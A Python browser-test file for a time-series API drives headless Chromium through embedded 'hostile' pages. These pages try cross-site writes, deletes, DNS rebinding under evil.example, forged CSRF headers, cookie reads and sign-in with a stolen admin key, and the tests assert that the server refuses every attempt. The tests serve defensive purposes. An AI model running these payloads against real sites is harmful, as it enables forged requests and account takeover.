"""A real browser shows a page of another site that tries what such pages try: to send, to delete, to read, also under a
name of the attacker's that leads to the server, and also while a person is signed in. Nothing is done, nothing is read.

`tests/api/test_admission.py` sends the same requests by socket, in every combination; this one shows that a browser
really forms them so. Needs chromium, which CI installs.
"""

import http.server
import json
import os
import queue
import re
import shutil
import signal
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

import pytest

from tests.api.samples import row
from tests.api.test_page import build_page
from tests.support.api import Api, running_api
from tidemill.catalog.keys import create_key

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
FLAGS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--disable-dev-shm-usage", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-extensions",
    "--no-proxy-server",
]  # fmt: skip
PAGE = """<!doctype html><title>hostile</title><iframe name=sink></iframe><script>
const target = TARGET, rebound = REBOUND, out = {};
async function attempt(name, work) {
  const late = new Promise(done => setTimeout(done, 5000, "timed out"));
  try { out[name] = await Promise.race([work(), late]); } catch (error) { out[name] = "failed: " + error.name; }
}
async function read(url, options) {
  const answer = await fetch(url, options);
  return [answer.type, answer.status, (await answer.text()).slice(0, 300)];
}
function form(action, method, text) {
  return new Promise(done => {
    const sent = document.createElement("form");
    sent.action = action; sent.method = method; sent.enctype = "text/plain"; sent.target = "sink";
    const field = document.createElement("input");
    field.name = text; field.value = ""; sent.append(field); document.body.append(sent);
    document.querySelector("iframe").onload = () => done("sent");
    sent.submit();
  });
}
(async () => {
  const text = JSON.stringify(ROW), feed = "/v1/feeds/dropzone";
  const plain = {method: "POST", body: text, headers: {"Content-Type": "text/plain"}};
  await attempt("simple", () => read(target + feed, {...plain, mode: "no-cors"}));
  await attempt("cors", () => read(target + feed, plain));
  await attempt("delete", () => read(target + feed, {method: "DELETE"}));
  await attempt("put", () => read(target + "/location", {method: "PUT", body: "{}"}));
  await attempt("get", () => read(target + "/v1/feeds"));
  await attempt("opaque", () => read(target + "/v1/feeds", {mode: "no-cors"}));
  await attempt("form", () => form(target + feed, "post", text));
  await attempt("beacon", async () => navigator.sendBeacon(target + feed, text));
  await attempt("rebound get", () => read(rebound + "/v1/feeds", {mode: "no-cors"}));
  await attempt("rebound post", () => read(rebound + feed, {...plain, mode: "no-cors"}));
  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
})();
</script>"""


SIGNED_IN = """<!doctype html><title>hostile</title><iframe name=sink></iframe><script>
const target = TARGET, out = {};
async function attempt(name, work) {
  const late = new Promise(done => setTimeout(done, 5000, "timed out"));
  try { out[name] = await Promise.race([work(), late]); } catch (error) { out[name] = "failed: " + error.name; }
}
async function read(path, options) {
  const answer = await fetch(target + path, {credentials: "include", ...options});
  return [answer.type, answer.status, (await answer.text()).slice(0, 300)];
}
function form(path, text) {
  return new Promise(done => {
    const sent = document.createElement("form");
    sent.action = target + path; sent.method = "post"; sent.enctype = "text/plain"; sent.target = "sink";
    const field = document.createElement("input");
    field.name = text; field.value = ""; sent.append(field); document.body.append(sent);
    document.querySelector("iframe").onload = () => done("sent");
    sent.submit();
  });
}
function element(name, path) {
  return new Promise(done => {
    const made = document.createElement(name);
    made.onload = () => done("loaded"); made.onerror = () => done("blocked");
    made.src = target + path; document.body.append(made);
  });
}
(async () => {
  const row = JSON.stringify(ROW), stolen = JSON.stringify({key: STOLEN}), feed = "/v1/feeds/dropzone";
  const plain = body => ({method: "POST", body, headers: {"Content-Type": "text/plain"}});
  const forged = {"X-Tidemill-CSRF": "0".repeat(64), "Content-Type": "application/json"};
  out.cookies = document.cookie;
  await attempt("session", () => read("/v1/session"));
  await attempt("feeds", () => read("/v1/feeds"));
  await attempt("opaque", () => read("/v1/session", {mode: "no-cors"}));
  await attempt("send", () => read(feed, {...plain(row), mode: "no-cors"}));
  await attempt("sign in as another", () => read("/v1/session", {...plain(stolen), mode: "no-cors"}));
  await attempt("make a key", () => read("/v1/keys", {...plain('{"scopes": ["admin"]}'), mode: "no-cors"}));
  await attempt("forged", () => read(feed, {method: "POST", body: row, headers: forged}));
  await attempt("sign out", () => read("/v1/session", {method: "DELETE"}));
  await attempt("form", () => form(feed, row));
  await attempt("form sign in", () => form("/v1/session", stolen));
  await attempt("beacon", async () => navigator.sendBeacon(target + feed, row));
  await attempt("script", () => element("script", "/v1/session"));
  await attempt("image", () => element("img", "/assets/icons-77.svg"));
  await fetch("/report", {method: "POST", body: JSON.stringify({from: location.hostname, ...out})});
  if (location.hostname !== "evil.example") location = location.href.replace(location.hostname, "evil.example");
})();
</script>"""


@contextmanager
def browsing(url: str, profile: Path, *more: str) -> Iterator[subprocess.Popen[bytes]]:
    """A browser that shows a page until the block ends. The name evil.example leads to this machine."""
    assert CHROMIUM is not None
    profile.mkdir(exist_ok=True)
    flags = [*FLAGS, f"--user-data-dir={profile}", "--host-resolver-rules=MAP evil.example 127.0.0.1", *more]
    browser = subprocess.Popen(
        [CHROMIUM, *flags, url],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        env=os.environ | {"HOME": str(profile)},
        start_new_session=True,
    )
    try:
        yield browser
    finally:
        with suppress(ProcessLookupError):
            os.killpg(browser.pid, signal.SIGKILL)
        browser.communicate()


def document(url: str, profile: Path) -> str:
    """The document of a page without scripts."""
    with browsing(url, profile, "--dump-dom") as browser:
        return browser.communicate(timeout=60)[0].decode("utf-8", "replace")


@contextmanager
def hostile(page: bytes, cookie: str = "", to: str = "") -> Iterator[tuple[int, queue.Queue[dict[str, Any]]]]:
    """Another site, on another port, and what its page reports to it. `cookie`: the `Set-Cookie` with which it answers,
    because browsers keep cookies by host, whatever the port; `to`: the address that `/to` leads to."""
    reports: queue.Queue[dict[str, Any]] = queue.Queue()

    class Site(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path == "/to":
                self.send_response(302)
                self.send_header("Location", to)
                self.send_header("Set-Cookie", cookie)
                self.send_header("Content-Length", "0")
                self.end_headers()
            else:
                self._answer(page)

        def do_POST(self) -> None:
            reports.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self._answer(b"")

        def _answer(self, content: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            if cookie:
                self.send_header("Set-Cookie", cookie)
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, *_: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Site)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield server.server_address[1], reports
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def refusals(api: Api, headers: dict[str, str] | None = None) -> dict[str, int]:
    text = api.client.get("/metrics", headers=headers or {}).text
    found = re.findall(r'tidemill_http_requests_total\{route="\(none\)",status="(403|421)"\} (\d+)', text)
    return {status: int(count) for status, count in found}


@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed")
def test_a_hostile_page_changes_and_reads_nothing(tmp_path: Path) -> None:
    with running_api(tmp_path / "data") as api:
        page = PAGE.replace("TARGET", json.dumps(api.url)).replace("ROW", json.dumps(row()))
        page = page.replace("REBOUND", json.dumps(f"http://evil.example:{api.port}"))
        with (
            hostile(page.encode()) as (port, reports),
            browsing(f"http://evil.example:{port}/", tmp_path / "profile", "--remote-debugging-port=0"),
        ):
            out = reports.get(timeout=60)
        for name in ("cors", "delete", "put", "get"):
            assert out[name] == "failed: TypeError", (name, out)
        assert "dropzone" not in json.dumps(out), out  # no answer of the server was read
        assert api.services.log.last_seq() == 0
        assert api.client.get("/v1/feeds/dropzone").status_code == 200
        counted = refusals(api)
        assert counted["403"] >= 3, counted  # they came, and were refused
        assert counted["421"] >= 1, counted


@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed")
def test_a_page_under_a_rebound_name_shows_a_refusal_and_our_own_pages_work(tmp_path: Path) -> None:
    with running_api(tmp_path / "data") as api:
        rebound = document(f"http://evil.example:{api.port}/v1/feeds", tmp_path / "profile")
        assert "misdirected" in rebound
        assert "dropzone" not in rebound
        assert "The time-series service" in document(f"{api.url}/", tmp_path / "profile")


def signed_in(api: Api) -> tuple[str, dict[str, str], dict[str, str]]:
    """The cookie of a person who is signed in, as `Set-Cookie` and as a header; and an administrator's key."""
    _, secret = create_key(api.services.catalog, "default", ["admin"])
    api.services.keys.refresh()
    set_cookie = api.client.post("/v1/session", json={"key": secret}).headers["set-cookie"]
    api.client.cookies.clear()
    return set_cookie, {"Cookie": set_cookie.partition(";")[0]}, {"X-API-Key": secret}


@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed")
def test_a_hostile_page_does_nothing_with_the_session_of_a_person(tmp_path: Path) -> None:
    folder = build_page(tmp_path / "ui")
    with running_api(tmp_path / "data", page_folder=folder) as api:
        set_cookie, cookie, admin = signed_in(api)
        _, stolen = create_key(api.services.catalog, "attacker", ["admin"])
        page = SIGNED_IN.replace("TARGET", json.dumps(api.url)).replace("ROW", json.dumps(row()))
        page = page.replace("STOLEN", json.dumps(stolen))
        # First from another port of the same host, where even a strict cookie goes along; then from another site.
        with (
            hostile(page.encode(), set_cookie) as (port, reports),
            browsing(f"http://127.0.0.1:{port}/", tmp_path / "profile", "--remote-debugging-port=0"),
        ):
            reported = [reports.get(timeout=90) for _ in range(2)]
        assert [out["from"] for out in reported] == ["127.0.0.1", "evil.example"]
        for out in reported:
            assert "tidemill" not in out["cookies"]
            for name in ("session", "feeds", "forged", "sign out"):
                assert out[name] == "failed: TypeError", (name, out)
            assert out["script"] == out["image"] == "blocked", out
            assert "csrf" not in json.dumps(out) and "default" not in json.dumps(out), out
        assert api.services.log.last_seq() == 0
        view = api.client.get("/v1/session", headers=cookie).json()
        assert (view["tenant"], bool(view["csrf"])) == ("default", True)  # nobody signed the person out, or in anew
        items = api.client.get("/v1/keys", headers=admin).json()["items"]
        assert [item["sessions"] for item in items] == [1]
        assert refusals(api, admin)["403"] >= 10  # they came, and were refused


@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed")
def test_no_page_of_another_origin_frames_ours(tmp_path: Path) -> None:
    folder = build_page(tmp_path / "ui")
    with running_api(tmp_path / "data", page_folder=folder) as api:
        frames = "".join(
            f'<iframe id=f{n} src="{api.url}{path}"></iframe>' for n, path in enumerate(("/explore", "/docs"))
        )
        # Browsers report a refused frame as loaded; but the script of a document in it would have run.
        page = f"<!doctype html><title>frames</title>{frames}".encode()
        with hostile(page) as (port, _):
            dumped = document(f"http://127.0.0.1:{port}/", tmp_path / "profile")
        assert dumped.count("<iframe") == 2
        counts = api.client.get("/metrics").text
        assert 'route="/v1/session"' not in counts  # the script of /docs asks for it as soon as it runs


@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed")
def test_our_own_page_has_the_session_of_the_person(tmp_path: Path) -> None:
    with running_api(tmp_path / "data") as api:
        set_cookie, _, _ = signed_in(api)
        with (
            hostile(b"", set_cookie, f"{api.url}/docs#getSession") as (port, _),
            browsing(
                f"http://127.0.0.1:{port}/to", tmp_path / "profile", "--dump-dom", "--virtual-time-budget=20000"
            ) as browser,
        ):
            shown = browser.communicate(timeout=60)[0].decode()
        assert "Signed in: tenant default, read, write, admin." in shown
